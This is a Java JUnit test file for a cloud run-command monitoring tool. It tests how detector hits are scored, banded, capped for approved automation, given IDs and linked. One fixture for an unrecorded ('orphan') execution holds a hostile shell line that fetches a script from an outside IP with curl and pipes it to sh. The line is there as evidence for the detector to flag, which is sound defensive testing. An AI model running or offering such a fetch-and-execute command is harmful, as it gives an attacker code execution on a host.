package io.runwatch.core.triage;

import static io.runwatch.core.triage.TriageFixtures.ACCOUNT;
import static io.runwatch.core.triage.TriageFixtures.T;
import static io.runwatch.core.triage.TriageFixtures.automation;
import static io.runwatch.core.triage.TriageFixtures.aws;
import static io.runwatch.core.triage.TriageFixtures.context;
import static io.runwatch.core.triage.TriageFixtures.hit;
import static io.runwatch.core.triage.TriageFixtures.iamUser;
import static io.runwatch.core.triage.TriageFixtures.policy;
import static io.runwatch.core.triage.TriageFixtures.roleSession;
import static io.runwatch.core.triage.TriageFixtures.window;
import static org.assertj.core.api.Assertions.assertThat;

import io.runwatch.core.baseline.Baseline;
import io.runwatch.core.correlate.Evidence;
import io.runwatch.core.correlate.OrphanExecution;
import io.runwatch.core.detect.DetectionContext;
import io.runwatch.core.detect.DetectorHit;
import io.runwatch.core.detect.RecentActivity;
import io.runwatch.core.detect.Severity;
import io.runwatch.core.model.AdminCommand;
import io.runwatch.core.model.Cloud;
import io.runwatch.core.model.Operation;
import io.runwatch.core.policy.Policy;
import io.runwatch.core.triage.ContainmentAction.Kind;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class TriageTest {
  private final Triage triage = new Triage();
  private final AdminCommand alice = aws(iamUser("alice", "AKIAEXAMPLEALICE0001")).build();

  private Finding judge(AdminCommand c, DetectorHit... hits) {
    return judge(context(c), hits);
  }

  private Finding judge(DetectionContext ctx, DetectorHit... hits) {
    return triage.triage(ctx, List.of(hits)).orElseThrow();
  }

  @Nested
  class Scoring {
    @Test
    void noHitsNoFinding() {
      assertThat(triage.triage(context(alice), List.of())).isEmpty();
      assertThat(Triage.score(List.of())).isZero();
    }

    @Test
    void oneHitKeepsItsScore() {
      assertThat(Triage.score(List.of(hit("RW-NEW-SOURCE", Severity.MEDIUM, 60)))).isEqualTo(60);
    }

    @Test
    void severalMediumSignalsOutrankOne() {
      DetectorHit a = hit("RW-NEW-SOURCE", Severity.MEDIUM, 40);
      DetectorHit b = hit("RW-VOLUME-SPIKE", Severity.MEDIUM, 40);
      DetectorHit c = hit("RW-OUTSIDE-WINDOW", Severity.MEDIUM, 40);
      // 100 * (1 - 0.6^2) = 64; 100 * (1 - 0.6^3) = 78.4
      assertThat(Triage.score(List.of(a, b))).isEqualTo(64);
      assertThat(Triage.score(List.of(a, b, c))).isEqualTo(78);
      assertThat(Triage.score(List.of(a, b, c)))
          .isGreaterThan(Triage.score(List.of(hit("RW-FAN-OUT", Severity.HIGH, 60))));
    }

    @Test
    void aCertainHitSaturatesAndTheScoreIsCapped() {
      assertThat(
              Triage.score(
                  List.of(hit("RW-A", Severity.HIGH, 100), hit("RW-B", Severity.HIGH, 90))))
          .isEqualTo(100);
    }

    @ParameterizedTest
    @CsvSource({
      "0,INFORMATIONAL",
      "14,INFORMATIONAL",
      "15,LOW",
      "39,LOW",
      "40,MEDIUM",
      "64,MEDIUM",
      "65,HIGH",
      "84,HIGH",
      "85,CRITICAL",
      "100,CRITICAL"
    })
    void bands(int score, Severity severity) {
      assertThat(Triage.band(score)).isEqualTo(severity);
    }

    @Test
    void severityIsTheHigherOfTheHitsAndTheBand() {
      Finding highHitLowScore = judge(alice, hit("RW-SUSPICIOUS-CONTENT", Severity.HIGH, 10));
      assertThat(highHitLowScore.score()).isEqualTo(10);
      assertThat(highHitLowScore.severity()).isEqualTo(Severity.HIGH);

      Finding threeMediums =
          judge(
              alice,
              hit("RW-NEW-SOURCE", Severity.MEDIUM, 40),
              hit("RW-VOLUME-SPIKE", Severity.MEDIUM, 40),
              hit("RW-NON-ADMIN-IDENTITY", Severity.LOW, 40));
      assertThat(threeMediums.score()).isEqualTo(78);
      assertThat(threeMediums.severity()).isEqualTo(Severity.HIGH);
    }

    @Test
    void policyOverridesTheDetectorSeverity() {
      Policy p =
          new Policy(
              List.of(),
              List.of(),
              List.of(),
              List.of(),
              Policy.defaults().thresholds(),
              Map.of("RW-VOLUME-SPIKE", Severity.CRITICAL),
              Duration.ofDays(30));
      Finding f =
          judge(
              context(alice, null, p, Baseline.empty("AWS|" + ACCOUNT), RecentActivity.empty()),
              hit("RW-VOLUME-SPIKE", Severity.LOW, 20));
      assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
      assertThat(f.hits().get(0).severity()).isEqualTo(Severity.CRITICAL);
    }

    @Test
    void hitsAreOrderedStrongestFirst() {
      Finding f =
          judge(
              alice,
              hit("RW-VOLUME-SPIKE", Severity.LOW, 20),
              hit("RW-FAN-OUT", Severity.HIGH, 50),
              hit("RW-NEW-SOURCE", Severity.HIGH, 60));
      assertThat(f.hits())
          .extracting(DetectorHit::detectorId)
          .containsExactly("RW-NEW-SOURCE", "RW-FAN-OUT", "RW-VOLUME-SPIKE");
    }
  }

  @Nested
  class AutomationCap {
    private final AdminCommand patch =
        aws(roleSession("PatchAutomation", "nightly")).document("AWS-RunPatchBaseline").build();

    private DetectionContext ctx(Policy p) {
      return context(patch, null, p, Baseline.empty("AWS|" + ACCOUNT), RecentActivity.empty());
    }

    private Policy approved(List<String> documents, List<String> windows) {
      return policy(
          List.of(),
          List.of(automation("patching", "*assumed-role/PatchAutomation/*", documents, windows)),
          List.of(window("nightly", Duration.ofHours(2), T.minusSeconds(600))),
          List.of());
    }

    @Test
    void approvedAutomationInScopeIsCappedAtInformational() {
      Finding f =
          judge(
              ctx(approved(List.of("AWS-RunPatchBaseline"), List.of())),
              hit("RW-VOLUME-SPIKE", Severity.HIGH, 70),
              hit("RW-FAN-OUT", Severity.MEDIUM, 50));
      assertThat(f.severity()).isEqualTo(Severity.INFORMATIONAL);
      assertThat(f.score()).as("the score is kept").isEqualTo(85);
      assertThat(f.escalation().escalate()).isFalse();
      assertThat(f.escalation().reasons().get(0))
          .contains("Approved automation 'patching'")
          .contains("capped at INFORMATIONAL")
          .contains("RW-VOLUME-SPIKE");
      assertThat(f.actions()).isEmpty();
    }

    @Test
    void suspiciousContentLiftsTheCapAndSaysSo() {
      Finding f =
          judge(
              ctx(approved(List.of("AWS-RunPatchBaseline"), List.of())),
              hit("RW-SUSPICIOUS-CONTENT", Severity.HIGH, 70));
      assertThat(f.severity()).isEqualTo(Severity.HIGH);
      assertThat(f.escalation().escalate()).isTrue();
      assertThat(f.escalation().reasons().get(0))
          .contains("'patching'")
          .contains("RW-SUSPICIOUS-CONTENT fired")
          .contains("cap does not apply");
    }

    @Test
    void failedThenSucceededLiftsTheCap() {
      Finding f =
          judge(
              ctx(approved(List.of(), List.of())),
              hit("RW-FAILED-THEN-SUCCEEDED", Severity.MEDIUM, 45));
      assertThat(f.severity()).isEqualTo(Severity.MEDIUM);
      assertThat(f.escalation().reasons().get(0)).contains("RW-FAILED-THEN-SUCCEEDED fired");
    }

    @Test
    void automationOutsideItsDocumentsIsNotCapped() {
      Finding f =
          judge(
              ctx(approved(List.of("AWS-ApplyAnsiblePlaybooks"), List.of())),
              hit("RW-VOLUME-SPIKE", Severity.MEDIUM, 50));
      assertThat(f.severity()).isEqualTo(Severity.MEDIUM);
      assertThat(f.escalation().reasons()).noneMatch(r -> r.contains("capped"));
    }

    @Test
    void automationBoundToAWindowIsCappedOnlyInsideIt() {
      Finding inside =
          judge(
              ctx(approved(List.of(), List.of("nightly"))), hit("RW-FAN-OUT", Severity.MEDIUM, 50));
      assertThat(inside.severity()).isEqualTo(Severity.INFORMATIONAL);

      Policy closed =
          policy(
              List.of(),
              List.of(automation("patching", "*PatchAutomation*", List.of(), List.of("nightly"))),
              List.of(window("nightly", Duration.ofHours(2), T.plusSeconds(3600))),
              List.of());
      Finding outside = judge(ctx(closed), hit("RW-FAN-OUT", Severity.MEDIUM, 50));
      assertThat(outside.severity()).isEqualTo(Severity.MEDIUM);
    }
  }

  @Nested
  class Ids {
    @Test
    void sameEventSameId() {
      Finding a = judge(alice, hit("RW-NEW-SOURCE", Severity.MEDIUM, 50));
      AdminCommand redelivered = aws(iamUser("alice", "AKIAEXAMPLEALICE0001")).build();
      Finding b = judge(redelivered, hit("RW-NEW-SOURCE", Severity.MEDIUM, 50));
      assertThat(a.id()).isEqualTo(b.id()).matches("rw-[0-9a-f]{32}");
      assertThat(a).isEqualTo(b);
    }

    @Test
    void hitOrderDoesNotMatterButTheDetectorSetDoes() {
      DetectorHit x = hit("RW-NEW-SOURCE", Severity.MEDIUM, 50);
      DetectorHit y = hit("RW-FAN-OUT", Severity.MEDIUM, 50);
      assertThat(judge(alice, x, y).id()).isEqualTo(judge(alice, y, x).id());
      assertThat(judge(alice, x).id()).isNotEqualTo(judge(alice, x, y).id());
    }

    @Test
    void anotherEventAnotherId() {
      DetectorHit x = hit("RW-NEW-SOURCE", Severity.MEDIUM, 50);
      AdminCommand other = alice.toBuilder().eventId("ev-other").build();
      assertThat(judge(alice, x).id()).isNotEqualTo(judge(other, x).id());
    }

    @Test
    void foldKeyWinsOverEventIdSoBothRecordsOfOneOperationMatch() {
      AdminCommand started = alice.toBuilder().eventId("started").foldKey("op-1").build();
      AdminCommand succeeded = alice.toBuilder().eventId("succeeded").foldKey("op-1").build();
      assertThat(FindingIds.of(started, List.of("RW-X")))
          .isEqualTo(FindingIds.of(succeeded, List.of("RW-X")));
    }
  }

  @Nested
  class Orphans {
    private final OrphanExecution orphan =
        new OrphanExecution(
            "i-0feedfacecafe0001",
            "ip-10-0-3-7",
            "aws-run-command",
            "9f0e1d2c-aaaa-bbbb-cccc-ddddeeeeffff",
            List.of(
                new Evidence(
                    "i-0feedfacecafe0001",
                    TriageFixtures.exec(
                        "ip-10-0-3-7", T, "/bin/sh -c id; curl -s http://203.0.113.9/a | sh"),
                    "aws-run-command",
                    "9f0e1d2c-aaaa-bbbb-cccc-ddddeeeeffff",
                    List.of())));

    @Test
    void anOrphanIsAHighEscalatedFindingWithVmContainment() {
      Finding f = triage.orphan(orphan, Policy.defaults());
      assertThat(f.severity()).isEqualTo(Severity.HIGH);
      assertThat(f.escalation().escalate()).isTrue();
      assertThat(Triage.isOrphan(f)).isTrue();
      assertThat(f.command().cloud()).isEqualTo(Cloud.AWS);
      assertThat(f.command().operation()).isEqualTo(Operation.SEND_COMMAND);
      assertThat(f.hits())
          .extracting(DetectorHit::detectorId)
          .containsExactly(Triage.ORPHAN_DETECTOR);
      assertThat(f.answers().get(0).question())
          .isEqualTo("Is a control-plane record missing or was the agent abused locally?");
      assertThat(f.answers().get(0).answer()).contains("9f0e1d2c-aaaa-bbbb-cccc-ddddeeeeffff");
      assertThat(f.actions())
          .extracting(ContainmentAction::kind)
          .containsExactly(Kind.ISOLATE_VM, Kind.SNAPSHOT_VM);
      assertThat(f.actions().get(0).parameters()).containsEntry("vm", "i-0feedfacecafe0001");
      assertThat(f.time()).isEqualTo(T);
    }

    @Test
    void anOrphanHasAStableIdOfItsOwn() {
      Finding a = triage.orphan(orphan, Policy.defaults());
      Finding b = triage.orphan(orphan, Policy.defaults());
      assertThat(a.id()).isEqualTo(b.id()).matches("rw-[0-9a-f]{32}");
      OrphanExecution another =
          new OrphanExecution(
              orphan.vm(), orphan.host(), orphan.mechanismId(), "other-id", orphan.evidence());
      assertThat(triage.orphan(another, Policy.defaults()).id()).isNotEqualTo(a.id());
    }

    @Test
    void anAzureMechanismMakesAnAzureOrphan() {
      OrphanExecution az =
          new OrphanExecution(
              null, "vm-pay-01", "azure-run-command-action", null, orphan.evidence());
      Finding f = triage.orphan(az, Policy.defaults());
      assertThat(f.command().cloud()).isEqualTo(Cloud.AZURE);
      assertThat(f.actions().get(0).parameters()).containsEntry("vm", "vm-pay-01");
    }
  }

  @Nested
  class Related {
    @Test
    void findingsOnTheSamePrincipalOrVmInTheWindowAreLinked() {
      AdminCommand first = alice;
      AdminCommand second = alice.toBuilder().eventId("ev-2").time(T.plusSeconds(600)).build();
      AdminCommand otherVm =
          aws(iamUser("bob", null))
              .eventId("ev-3")
              .targets(List.of(io.runwatch.core.model.VmRef.of("i-0ffff")))
              .time(T.plusSeconds(900))
              .build();
      AdminCommand late = alice.toBuilder().eventId("ev-4").time(T.plusSeconds(7 * 3600)).build();
      DetectorHit x = hit("RW-NEW-SOURCE", Severity.MEDIUM, 50);
      List<Finding> linked =
          Triage.linkRelated(
              List.of(judge(first, x), judge(second, x), judge(otherVm, x), judge(late, x)),
              Duration.ofHours(1));
      assertThat(linked.get(0).related()).containsExactly(linked.get(1).id());
      assertThat(linked.get(1).related()).containsExactly(linked.get(0).id());
      assertThat(linked.get(2).related()).isEmpty();
      assertThat(linked.get(3).related()).isEmpty();
      AnalysisAnswer a = linked.get(0).answers().get(6);
      assertThat(a.question()).isEqualTo(AnalysisQuestions.RELATED);
      assertThat(a.concerning()).isTrue();
      assertThat(a.answer()).contains(linked.get(1).id());
      assertThat(linked.get(3).answers().get(6).concerning()).isFalse();
    }

    @Test
    void sharingATargetVmLinksDifferentPrincipals() {
      AdminCommand a = alice;
      AdminCommand b = aws(iamUser("bob", null)).eventId("ev-b").time(T.plusSeconds(60)).build();
      DetectorHit x = hit("RW-NEW-SOURCE", Severity.MEDIUM, 50);
      List<Finding> linked =
          Triage.linkRelated(List.of(judge(a, x), judge(b, x)), Duration.ofHours(1));
      assertThat(linked.get(0).related()).containsExactly(linked.get(1).id());
    }
  }
}
